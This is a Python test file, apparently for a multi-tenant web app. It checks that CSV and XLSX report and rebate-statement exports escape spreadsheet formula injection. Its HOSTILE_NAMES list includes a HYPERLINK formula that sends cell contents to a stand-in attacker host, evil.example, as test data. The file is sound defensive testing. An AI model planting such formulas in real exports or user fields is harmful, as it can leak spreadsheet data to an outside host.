"""CSV exports hold no cell a spreadsheet would run (OWASP CSV injection) and say their charset once."""

from __future__ import annotations

import csv
import io

from core.exports import XLSX_TYPE, safe_cell, xlsx_bytes
from tests.core.reports.test_service_quality import _ticket, this_month

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1"]


def cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def test_only_text_leading_a_formula_is_prefixed():
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "普通", "a=b", -250, 3)] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "普通", "a=b", -250, 3]


async def test_the_report_csv_escapes_a_staff_members_formula_name(make_tenant):
    tenant = await make_tenant()
    customer = await tenant.customer()
    for name in HOSTILE_NAMES:
        agent = await tenant.add_user("agent", name=name)
        await _ticket(agent, customer["id"])
    response = await tenant.get(f"/api/v1/reports/service-quality.csv?month={this_month()}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    found = cells(response)
    for name in HOSTILE_NAMES:
        assert "'" + name in found and name not in found, name


async def test_the_rebate_csv_escapes_an_agents_formula_name(client, make_tenant, page_login):
    tenant = await make_tenant()
    for name in HOSTILE_NAMES:
        agent = (await tenant.post("/api/v1/rebates/agents", json={"name": name, "rebate_percent": "3.5"})).json()
        sale = await tenant.post(f"/api/v1/rebates/agents/{agent['id']}/transactions",
                                 json={"amount_fen": 1000, "occurred_on": "2025-03-10"})
        assert sale.status_code == 201, sale.text
    await page_login(tenant.slug, tenant.admin_email)
    for url in (f"/t/{tenant.slug}/rebates/statement.csv?month=2025-03",
                f"/t/{tenant.slug}/reports/service-quality.csv?month=2025-03"):
        response = await client.get(url)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
    response = await client.get(f"/t/{tenant.slug}/rebates/statement.csv?month=2025-03")
    found = cells(response)
    for name in HOSTILE_NAMES:
        assert "'" + name in found and name not in found, name
    assert "1000" in found and "-" not in "".join(c[:1] for c in found if c and c[0] != "'")


def xlsx_cells(response) -> list:
    """Every cell of the downloaded workbook's first sheet, after checking that its XML holds no
    formula at all."""
    import zipfile

    from openpyxl import load_workbook

    assert response.headers["content-type"] == XLSX_TYPE
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n)
               for n in archive.namelist() if n.startswith("xl/worksheets/"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_xlsx_text_cells_are_text_never_formulas():
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(xlsx_bytes([["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "普通", -250, "a\x01b"]])))
    row = next(workbook.worksheets[0].iter_rows())
    # XML reads a carriage return back as a line feed.
    assert [c.value for c in row] == ["=1+1", "+1", "-1", "@A1", "\t=1", "\n=1", "普通", -250, "ab"]
    assert [c.data_type for c in row] == ["s"] * 7 + ["n", "s"]
    assert [c.quotePrefix for c in row] == [True] * 6 + [False] * 3


async def test_the_report_and_statement_xlsx_escape_formula_names(client, make_tenant, page_login):
    tenant = await make_tenant()
    customer = await tenant.customer()
    for name in HOSTILE_NAMES:
        agent = await tenant.add_user("agent", name=name)
        await _ticket(agent, customer["id"])
        rebate = (await tenant.post("/api/v1/rebates/agents", json={"name": name, "rebate_percent": "3.5"})).json()
        await tenant.post(f"/api/v1/rebates/agents/{rebate['id']}/transactions",
                          json={"amount_fen": 1000, "occurred_on": "2025-03-10"})
    response = await tenant.get(f"/api/v1/reports/service-quality.xlsx?month={this_month()}")
    assert response.status_code == 200, response.text
    found = {c.value: c for c in xlsx_cells(response)}
    for name in HOSTILE_NAMES:
        assert found[name].data_type == "s" and found[name].quotePrefix, name
    await page_login(tenant.slug, tenant.admin_email)
    for url in (f"/t/{tenant.slug}/rebates/statement.xlsx?month=2025-03",
                f"/t/{tenant.slug}/reports/service-quality.xlsx?month={this_month()}"):
        page = await client.get(url)
        assert page.status_code == 200, page.text
        values = {c.value for c in xlsx_cells(page)}
        assert set(HOSTILE_NAMES) <= values, url
